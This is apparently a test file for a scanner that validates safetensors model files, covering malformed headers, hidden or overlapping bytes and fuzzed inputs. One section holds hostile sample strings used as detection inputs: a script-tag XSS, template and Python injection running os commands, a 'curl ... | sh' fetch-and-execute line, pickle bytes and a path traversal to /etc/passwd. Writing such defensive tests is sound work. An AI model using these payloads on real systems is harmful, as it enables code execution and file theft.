import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { inspectSafetensors } from '../../../../src/modelfiles/formats/safetensors/inspect-safetensors.ts';
import { scanModelFile } from '../../../../src/modelfiles/scan-model-file.ts';
import { MemorySource } from '../../../../src/modelfiles/sources/memory-source.ts';
import { u64 } from '../../bytes.ts';
import { inspectionContext } from '../../inspection-context.ts';

function build(header: unknown, data: Uint8Array, padding = ''): Buffer {
  const text = Buffer.from(
    (typeof header === 'string' ? header : JSON.stringify(header)) + padding,
  );
  return Buffer.concat([u64(text.length), text, data]);
}

function rulesOf(bytes: Uint8Array): readonly string[] {
  const { problems } = inspectSafetensors(new MemorySource(bytes), inspectionContext());
  return problems.map(({ rule }) => rule);
}

/** An entry of the header; bytes, unless the type is said. */
function tensor(
  start: number,
  end: number,
  [dtype, shape]: [string, number[]] = ['U8', [end - start]],
): object {
  return { dtype, shape, data_offsets: [start, end] };
}

const DATA = Buffer.alloc(24);
const FINE = {
  __metadata__: { format: 'pt' },
  a: tensor(0, 8, ['F32', [2, 1]]),
  b: tensor(8, 24, ['F64', [2]]),
};

describe('inspectSafetensors: files that pass', () => {
  const fine: Readonly<Record<string, Buffer>> = {
    'tensors from the first byte to the last': build(FINE, DATA),
    'a header padded with spaces': build(FINE, DATA, '    '),
    'tensors in any order': build({ b: tensor(8, 24), a: tensor(0, 8) }, DATA),
    'empty tensors and scalars': build(
      { a: tensor(0, 0), b: tensor(0, 4, ['F32', []]), c: tensor(4, 4, ['F32', [0, 7]]) },
      Buffer.alloc(4),
    ),
    'elements of less than a byte': build(
      { a: tensor(0, 3, ['F6_E2M3', [4]]), b: tensor(3, 4, ['F4', [2]]) },
      Buffer.alloc(4),
    ),
    'no tensor': build({}, Buffer.alloc(0)),
  };
  for (const [name, bytes] of Object.entries(fine)) {
    it(name, async () => {
      assert.deepEqual(rulesOf(bytes), []);
      const report = await scanModelFile(bytes, { name: 'model.safetensors' });
      assert.deepEqual(
        [report.format, report.verdict, report.findings],
        ['safetensors', 'pass', []],
      );
    });
  }
});

describe('inspectSafetensors: files that do not pass', () => {
  const one = (entry: unknown): Buffer => build({ a: entry }, Buffer.alloc(8));
  const cases: Readonly<Record<string, readonly [Buffer, string]>> = {
    'bytes behind the tensors': [build(FINE, Buffer.alloc(25)), 'safetensors.hidden-bytes'],
    'bytes before them': [build({ a: tensor(4, 24) }, DATA), 'safetensors.hidden-bytes'],
    'bytes between them': [
      build({ a: tensor(0, 8), b: tensor(9, 24) }, DATA),
      'safetensors.hidden-bytes',
    ],
    'tensors that overlap': [
      build({ a: tensor(0, 9), b: tensor(8, 24) }, DATA),
      'safetensors.overlap',
    ],
    'the same bytes twice': [
      build({ a: tensor(0, 24), b: tensor(0, 24) }, DATA),
      'safetensors.overlap',
    ],
    'tensors beyond the end': [build({ a: tensor(0, 25) }, DATA), 'safetensors.malformed'],
    'a header beyond the end': [
      Buffer.concat([u64(99), Buffer.from('{}')]),
      'safetensors.malformed',
    ],
    'a header that nobody reads': [
      Buffer.concat([u64(2 ** 40), Buffer.from('{}')]),
      'safetensors.malformed',
    ],
    'a key twice': [
      build(
        '{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}',
        Buffer.alloc(8),
      ),
      'safetensors.ambiguous',
    ],
    'a header padded with zeros': [build({}, Buffer.alloc(0), '\0'), 'safetensors.malformed'],
    'a header that is a list': [build([], Buffer.alloc(0)), 'safetensors.malformed'],
    'something behind the header': [build('{} {}', Buffer.alloc(0)), 'safetensors.malformed'],
    'an unknown type': [one(tensor(0, 8, ['OBJECT', [8]])), 'safetensors.malformed'],
    'another length than the shape makes': [
      one(tensor(0, 8, ['F32', [3]])),
      'safetensors.malformed',
    ],
    'a shape that overflows': [
      one(tensor(0, 8, ['U8', [2 ** 30, 2 ** 30, 2 ** 30]])),
      'safetensors.malformed',
    ],
    'a negative shape': [one(tensor(0, 8, ['U8', [-2, -4]])), 'safetensors.malformed'],
    'a fraction': [one(tensor(0, 8, ['U8', [0.5, 16]])), 'safetensors.malformed'],
    'an end before the start': [one(tensor(8, 0, ['U8', [0]])), 'safetensors.malformed'],
    'three offsets': [
      one({ dtype: 'U8', shape: [8], data_offsets: [0, 8, 8] }),
      'safetensors.malformed',
    ],
    'one more key': [one({ ...tensor(0, 8), extra: 1 }), 'safetensors.malformed'],
    'a tensor that is a number': [one(1), 'safetensors.malformed'],
    'metadata that is no text': [
      build({ __metadata__: { a: 1 } }, Buffer.alloc(0)),
      'safetensors.malformed',
    ],
    'metadata that is a list': [
      build({ __metadata__: [] }, Buffer.alloc(0)),
      'safetensors.malformed',
    ],
    'a name that is no text': [
      build('{"\\ud800":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}', Buffer.alloc(8)),
      'safetensors.malformed',
    ],
    'bytes that are not UTF-8': [
      Buffer.concat([u64(3), Buffer.of(0x7b, 0xff, 0x7d)]),
      'safetensors.malformed',
    ],
  };
  for (const [name, [bytes, rule]] of Object.entries(cases)) {
    it(`${name}: ${rule}`, () => {
      assert.deepEqual(rulesOf(bytes), [rule]);
    });
  }

  it('a header too long to be held: inconclusive', async () => {
    const length = 21 * 2 ** 20;
    const bytes = Buffer.concat([u64(length), Buffer.from('{}'.padEnd(length))]);
    const report = await scanModelFile(bytes);
    assert.deepEqual([report.verdict, report.rule], ['inconclusive', 'safetensors.limit']);
  });
});

describe('inspectSafetensors: metadata', () => {
  const texts: readonly string[] = [
    '<script>alert(1)</script>',
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "__import__('os').system('id')",
    'curl http://example.org/x | sh',
    'gASVIwAAAAAAAACMBXBvc2l4',
    '80049523000000',
    '../../../etc/passwd',
  ];
  for (const text of texts) {
    it(`notes ${text}`, async () => {
      const report = await scanModelFile(build({ __metadata__: { note: text } }, Buffer.alloc(0)));
      assert.equal(report.verdict, 'pass');
      assert.ok(report.findings.length > 0);
      assert.ok(report.findings.every(({ rule }) => rule === 'safetensors.suspicious-metadata'));
    });
  }

  it('lets what models say of themselves be', () => {
    const metadata = {
      format: 'pt',
      license: 'https://www.apache.org/licenses/LICENSE-2.0',
      'modelspec.title': 'A model; trained (in part) on 2024-05-01',
    };
    assert.deepEqual(rulesOf(build({ __metadata__: metadata }, Buffer.alloc(0))), []);
  });
});

describe('inspectSafetensors: any bytes', () => {
  it('passes no file that was cut or lengthened', () => {
    const whole = build(FINE, DATA);
    for (let length = 9; length < whole.length; length++) {
      assert.notDeepEqual(rulesOf(whole.subarray(0, length)), [], `${length} bytes`);
    }
    assert.notDeepEqual(rulesOf(Buffer.concat([whole, Buffer.of(0)])), []);
  });

  it('throws nothing of its own', () => {
    const whole = build(FINE, DATA);
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 4 }),
        (changes) => {
          const bytes = Buffer.from(whole);
          for (const [at, value] of changes) bytes[at] = value;
          rulesOf(bytes);
        },
      ),
      { numRuns: 500 },
    );
  });
});
